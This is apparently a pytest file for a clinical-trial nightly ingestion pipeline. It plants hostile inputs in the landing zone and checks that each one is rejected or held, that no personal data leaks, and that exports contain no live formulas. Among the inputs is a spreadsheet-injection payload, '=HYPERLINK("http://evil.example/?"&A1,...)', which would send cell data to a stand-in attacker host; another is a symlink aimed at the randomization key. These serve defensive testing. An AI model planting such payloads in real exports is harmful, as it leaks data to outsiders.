"""Issue #10 through the whole nightly job: a generated first night, then a second night in which
every source sends something hostile or careless. The run succeeds, each bad transfer is rejected
(or held) with a reason and a finding, the good ones load, nothing personal reaches any output, no
exported cell is a live formula, and nothing outside the landing zone is archived."""
import csv
import json
import shutil

import dagster as dg
import openpyxl
import pandas as pd
import pytest

from aclf.archive import archive_path
from aclf.landing import sha256_of
from aclf.store import make_engine
from pipelines.nightly import run_nightly
from support import generated_night, read_table, write_manifest
from validation.cells import FORMULA_TRIGGERS

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SHORT_FORMULA = '=HYPERLINK(A1,"x")'     # short enough to be quoted in a reason (aclf.disclosure)


def _personal(settings, night: str) -> set[str]:
    site01 = pd.read_csv(settings.landing / "site01" / f"SITE01_{night}.csv", dtype=str, encoding="utf-8-sig")
    enrol = pd.read_csv(settings.landing / "edc" / f"EDC_{night}" / "enrollment.csv", dtype=str)
    values = [*site01["PATIENT_NAME"], *site01["MRN"], *enrol["PATIENT_NAME"], *enrol["PHONE"], *enrol["ID_CARD_NO"]]
    return {v for v in values if isinstance(v, str) and len(v) >= 4}


def _plant_second_night(settings, night: str, next_night: str) -> dict[str, str]:
    land = settings.landing
    names = {}
    # 1. site01 without its header row
    lines = (land / "site01" / f"SITE01_{night}.csv").read_bytes().split(b"\r\n")
    names["site01"] = f"SITE01_{next_night}.csv"
    (land / "site01" / names["site01"]).write_bytes(b"\xef\xbb\xbf" + b"\r\n".join(lines[1:]))
    # 2. site04: a 31-digit result, a NUL byte in a test name (reaches the site's query listing), a
    # formula as a test name
    text = (land / "site04" / f"SITE04_{night}.txt").read_text(encoding="utf-8").split("\n")
    cells = text[1].split("\t")
    cells[8] = "1234567890123456789012345678901"
    cells2 = text[2].split("\t")
    cells2[7] = "Sodium\x00X"
    cells3 = text[3].split("\t")
    cells3[7] = SHORT_FORMULA        # a test named by a formula: its reason quotes it into the exports
    text[1], text[2], text[3] = "\t".join(cells), "\t".join(cells2), "\t".join(cells3)
    # 11. a row's own name or phone typed into a column that is read (unit, result, visit, test, and a
    # repeated record's result): each is a finding or a quarantine whose reason does not quote it
    planted = {}
    for row, (column, personal) in enumerate([(9, 1), (8, 2), (3, 1), (7, 2), (8, 1)], start=4):
        cells = text[row].split("\t")
        cells[column] = cells[personal]
        planted[cells[personal]] = row
        text[row] = "\t".join(cells)
    repeat = text[9].split("\t")
    repeat[8] = repeat[2]
    planted[repeat[2]] = 9
    text.insert(10, "\t".join(repeat))
    names["site04"] = f"SITE04_{next_night}.txt"
    (land / "site04" / names["site04"]).write_text("\n".join(text), encoding="utf-8")
    # 2/8. IWRS header-only: held as truncated
    header = (land / "iwrs" / f"IWRS_{night}.csv").read_text().split("\n")[0]
    names["iwrs"] = f"IWRS_{next_night}.csv"
    (land / "iwrs" / names["iwrs"]).write_text(header + "\n")
    # 2. site05: its manifest is a directory
    names["site05"] = f"SITE05_{next_night}.sav"
    shutil.copyfile(land / "site05" / f"SITE05_{night}.sav", land / "site05" / names["site05"])
    (land / "site05" / (names["site05"] + ".sha256")).mkdir()
    # 4. site03: a symlink to the randomization key
    key = next((land / "iwrs_key").glob("RANDKEY_*.csv"))
    names["site03"] = f"SITE03_{next_night}.xlsx"
    (land / "site03" / names["site03"]).symlink_to(key)
    # 6. site02: a transfer dated in the future
    names["site02"] = "SITE02_20991231.csv"
    shutil.copyfile(land / "site02" / f"SITE02_{night}.csv", land / "site02" / names["site02"])
    # 5/9. EDC: a formula as a SUBJID (held back; a reason never quotes a subject column) and a
    # partial onset date
    folder = land / "edc" / f"EDC_{next_night}"
    shutil.copytree(land / "edc" / f"EDC_{night}", folder)
    (folder / "MANIFEST.sha256").unlink()
    with (folder / "enrollment.csv").open("a", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerow([FORMULA, "01", "", "", "", "", "", "", "", "", "x", "1", "2"])
    # 11. a patient's own name as SEX and phone as RACE: findings, blanked in SDTM (SEX as U), the package published
    enrollment = pd.read_csv(folder / "enrollment.csv", dtype=str, keep_default_na=False)
    enrollment.loc[1, "SEX"], enrollment.loc[2, "RACE"] = enrollment.loc[1, "PATIENT_NAME"], enrollment.loc[2, "PHONE"]
    planted.update({enrollment.loc[1, "SEX"]: 1, enrollment.loc[2, "RACE"]: 2})
    planted["coded"] = {"SEX": enrollment.loc[1, "SUBJID"], "RACE": enrollment.loc[2, "SUBJID"]}
    enrollment.to_csv(folder / "enrollment.csv", index=False)
    mh = pd.read_csv(folder / "medical_history.csv", dtype=str, keep_default_na=False)
    mh.loc[0, "ACLF_ONSET_DATE"] = mh.loc[0, "ACLF_ONSET_DATE"][:7]
    mh.to_csv(folder / "medical_history.csv", index=False)
    names["edc"] = folder.name
    for name in ("site01", "site04", "iwrs", "site02"):
        write_manifest(land / name / names[name])
    write_manifest(folder)
    return names, planted


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    with generated_night(root, subjects=12, seed=3) as (settings, summary, url):
        night = summary.nights[0].replace("-", "")
        next_night = (pd.Timestamp(summary.nights[0]) + pd.Timedelta(days=1)).strftime("%Y%m%d")
        personal = _personal(settings, night)
        names, planted = _plant_second_night(settings, night, next_night)
        names["coded"] = planted.pop("coded")
        result = run_nightly(settings, instance=dg.DagsterInstance.ephemeral())
        engine = make_engine(url)
        yield settings, result, names, personal | set(planted), engine
        engine.dispose()


def test_the_night_succeeds_and_each_bad_transfer_is_rejected_with_its_reason(hostile):
    settings, result, names, _, engine = hostile
    assert result.success, result.failures
    transfers = read_table(engine, "transfer").set_index("name")
    expect = {
        "site01": "row 1: the header row lacks the required column(s) SUBJECT_NO",
        "iwrs": "held as possibly truncated: it holds 0 records",
        "site05": "manifest SITE05_",
        "site03": "is a symbolic link; links are never followed",
        "site02": "in the name is later than the run's date allows",
    }
    for source, said in expect.items():
        row = transfers.loc[names[source]]
        assert row["status"] == "rejected" and said in row["reason"], (source, row["reason"])
    for source in ("site04", "edc"):
        assert transfers.loc[names[source], "status"] == "loaded"
    report = json.loads((settings.output / "run_report.json").read_text())
    assert {t["file"] for t in report["transfers"] if t["status"] == "rejected"} >= {names[s] for s in expect}
    findings = pd.read_csv(settings.output / "findings" / "findings.csv", dtype=str, keep_default_na=False)
    rejected = findings[findings["rule"] == "transfer_rejected"]
    assert {names[s] for s in expect} <= set(rejected["file"])


def test_nothing_personal_and_nothing_outside_reaches_any_output(hostile):
    settings, _, _, personal, engine = hostile
    assert personal
    texts = [read_table(engine, t).to_json(force_ascii=False) for t in ("transfer", "quarantine")]
    texts.append(pd.read_sql_table("finding", engine).to_json(force_ascii=False))
    texts.append((settings.output / "run_report.json").read_text(encoding="utf-8"))
    texts.append((settings.output / "findings" / "findings.csv").read_text(encoding="utf-8-sig"))
    for book in (settings.output / "findings").glob("*.xlsx"):
        sheet = openpyxl.load_workbook(book).active
        texts.append(json.dumps([[c.value for c in row] for row in sheet.iter_rows()], ensure_ascii=False, default=str))
    leaked = [v for v in personal if any(v in t for t in texts)]
    assert not leaked
    # every uncompressed file written (datasets as XPT and Dataset-JSON, define.xml, Data Docs, listings)
    plain = [p.read_bytes() for p in settings.output.rglob("*")
             if p.suffix in {".xpt", ".json", ".xml", ".html", ".csv", ".txt"}]
    assert len(plain) > 20
    assert not [v for v in personal if any(v.encode() in b for b in plain)]
    key = next((settings.landing / "iwrs_key").glob("RANDKEY_*.csv"))
    assert not archive_path(settings.archive, sha256_of(key)).exists()


def test_no_exported_cell_is_a_live_formula(hostile):
    settings, *_ = hostile
    with (settings.output / "findings" / "findings.csv").open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert any(SHORT_FORMULA in c for c in cells)                           # the planted one reached it
    listing = openpyxl.load_workbook(settings.output / "findings" / "site04_queries.xlsx").active
    values = [c for row in listing.iter_rows() for c in row]
    assert not [c for c in values if c.data_type == "f"]
    assert any("Sodium\ufffdX" in str(c.value) for c in values)             # the NUL did not stop the listing


def test_a_partial_onset_date_is_no_finding(hostile):
    settings, *_ = hostile
    findings = pd.read_csv(settings.output / "findings" / "findings.csv", dtype=str, keep_default_na=False)
    assert not findings["message"].str.contains("ACLF_ONSET_DATE").any()


def test_a_personal_value_typed_in_a_read_column_is_held_and_never_quoted(hostile):
    """A site's own name or phone in the unit, result, visit or test column, or as a repeated record's
    result: a unit or result is held as `personal_value` (so it reaches no dataset), a visit label is
    queried, an unknown test held; each reason names file, row and column, never the value, and
    the quarantined row keeps such a cell withheld."""
    settings, _, names, _, engine = hostile
    not_shown = "(not shown: it has the form of a name or an identifier)"
    transfers = read_table(engine, "transfer").set_index("name")
    held = read_table(engine, "quarantine")
    held = held[held["transfer_id"] == transfers.loc[names["site04"], "id"]]
    personal = held[held["rule"] == "personal_value"]
    assert {(5, "UNITS"), (6, "VALUE"), (9, "VALUE"), (11, "VALUE")} <= set(zip(personal["row_number"],
                                                                                personal["column_name"]))
    assert personal["reason"].str.contains(not_shown, regex=False).all()
    assert personal["data"].str.contains(not_shown, regex=False).all()
    [test] = held[held["row_number"] == 8].itertuples()
    assert test.rule == "unknown_test" and not_shown in test.reason and not_shown in test.data
    findings = pd.read_csv(settings.output / "findings" / "findings.csv", dtype=str, keep_default_na=False)
    visit = findings[(findings["file"] == names["site04"]) & (findings["rule"] == "visit_unknown")]
    assert visit["message"].str.contains(not_shown, regex=False).any()


def test_a_value_outside_its_codelist_is_a_finding_and_the_package_is_published(hostile):
    """A name typed as SEX and a phone as RACE are findings of the enrollment form; SDTM carries
    them as not known (DM.SEX U, DM.RACE empty), so the night's SDTM and ADaM packages are
    published instead of being refused by their codelist checks."""
    settings, _, names, _, _ = hostile
    report = json.loads((settings.output / "run_report.json").read_text())
    blinded = [p for p in report["packages"].values() if "unblinded" not in json.dumps(p)]
    assert blinded and all(p["refreshed"] for p in blinded), blinded
    [dm_path] = [p for p in settings.output.rglob("dm.xpt") if "unblinded" not in str(p)]
    dm = pd.read_sas(dm_path, format="xport", encoding="utf-8").set_index("SUBJID")
    assert dm.loc[names["coded"]["SEX"], "SEX"] == "U"
    assert dm.loc[names["coded"]["RACE"], "RACE"] == ""
    assert set(dm["SEX"]) <= {"M", "F", "U"}
    findings = pd.read_csv(settings.output / "findings" / "findings.csv", dtype=str, keep_default_na=False)
    schema = findings[(findings["rule"] == "schema_violation") & (findings["file"] == names["edc"])]
    for column, subjid in names["coded"].items():
        said = schema[schema["subjid"] == subjid]["message"]
        assert said.str.startswith(f"enrollment: {column} value (not shown").any(), (column, list(said))
